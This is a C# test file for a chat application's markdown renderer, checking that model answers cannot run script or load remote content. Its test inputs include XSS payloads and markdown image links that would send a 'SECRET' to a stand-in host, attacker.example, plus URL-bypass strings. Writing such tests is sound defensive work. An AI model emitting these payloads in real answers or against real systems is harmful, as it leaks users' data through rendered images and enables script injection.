using AiHub.Chat.Pages;

namespace AiHub.Tests;

/// <summary>An answer is text from a model: it renders as markdown and never as live HTML or script.</summary>
public sealed class ChatMarkdownTests
{
    static string Render(string markdown) => ChatMarkdown.Render(markdown).Value;

    [Fact]
    public void Raw_html_in_an_answer_is_shown_as_text()
    {
        var html = Render("Hello <script>alert(1)</script> <img src=x onerror=alert(2)>");
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;script&gt;", html);
    }

    [Fact]
    public void A_javascript_link_loses_its_target_and_a_web_link_opens_elsewhere()
    {
        Assert.DoesNotContain("javascript:", Render("[click](javascript:alert(1))"), StringComparison.OrdinalIgnoreCase);
        var link = Render("[docs](https://example.com/a)");
        Assert.Contains("href=\"https://example.com/a\"", link);
        Assert.Contains("target=\"_blank\"", link);
        Assert.Contains("noopener", link);
    }

    [Fact]
    public void Fenced_code_keeps_its_language_and_colours_keywords_strings_and_comments()
    {
        var html = Render("```csharp\nvar s = \"<b>\"; // note\nreturn 42;\n```");
        Assert.StartsWith("<pre class=\"aihub-code\"><code class=\"language-csharp\">", html);
        Assert.Contains("<span class=\"tok-str\">\"&lt;b&gt;\"</span>", html);
        Assert.Contains("<span class=\"tok-com\">// note</span>", html);
        Assert.Contains("<span class=\"tok-kw\">return</span>", html);
        Assert.DoesNotContain("<b>", html);
    }

    [Fact]
    public void Markdown_tables_and_emphasis_render()
    {
        var html = Render("**bold** and *it*\n\n| a | b |\n|---|---|\n| 1 | 2 |");
        Assert.Contains("<strong>bold</strong>", html);
        Assert.Contains("<table>", html);
    }

    [Theory]
    [InlineData("![secret](https://attacker.example/leak?d=SECRET)")]
    [InlineData("![secret](//attacker.example/leak?d=SECRET)")]
    [InlineData("![secret][pic]\n\n[pic]: https://attacker.example/leak?d=SECRET")]
    [InlineData("![secret](https://attacker.example/leak?d=SECRET){srcset=\"https://attacker.example/x 1x\"}")]
    public void A_remote_image_is_a_link_naming_its_host_and_loads_nothing(string markdown)
    {
        var html = Render(markdown);
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("srcset", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("[secret] (attacker.example)", html);
        Assert.Contains("<a href=\"", html);
        Assert.Contains("attacker.example/leak?d=SECRET\"", html);
    }

    [Fact]
    public void A_raw_img_tag_in_an_answer_is_text_and_never_an_image()
    {
        var html = Render("<img src=\"https://attacker.example/leak?d=SECRET\" alt=\"x\">");
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("&lt;img", html);
    }

    [Fact]
    public void An_image_inside_a_link_becomes_the_links_text()
    {
        var html = Render("[![badge](https://attacker.example/leak.png)](https://example.com/page)");
        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("attacker.example/leak.png", html);
        Assert.Contains("href=\"https://example.com/page\"", html);
        Assert.Contains("[badge] (attacker.example)", html);
    }

    [Fact]
    public void A_remote_video_or_embed_link_loads_nothing()
    {
        var html = Render("![clip](https://attacker.example/leak.mp4)\n\n![yt](https://www.youtube.com/watch?v=abc)");
        foreach (var tag in new[] { "<video", "<iframe", "<source", "<img" })
            Assert.DoesNotContain(tag, html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void An_embedded_or_same_origin_image_stays_an_image()
    {
        Assert.Contains("<img src=\"/images/logo.png\"", Render("![logo](/images/logo.png)"));
        Assert.Contains("<img src=\"logo.png\"", Render("![logo](logo.png)"));
        Assert.Contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\"", Render("![dot](data:image/png;base64,iVBORw0KGgo=)"));
        Assert.DoesNotContain("<img", Render("![page](data:text/html;base64,PHNjcmlwdD4=)"), StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("//host/x", false)]
    [InlineData("/\\host/x", false)]
    [InlineData("/\t/host/x", false)]
    [InlineData("https://host/x", false)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("", false)]
    [InlineData("/images/a.png", true)]
    [InlineData("a.png?x=1:2", true)]
    [InlineData("data:image/png;base64,AAAA", true)]
    [InlineData("data:text/html;base64,AAAA", false)]
    public void Only_embedded_and_same_origin_images_count_as_local(string src, bool local) =>
        Assert.Equal(local, ChatMarkdown.IsLocalImage(src));
}
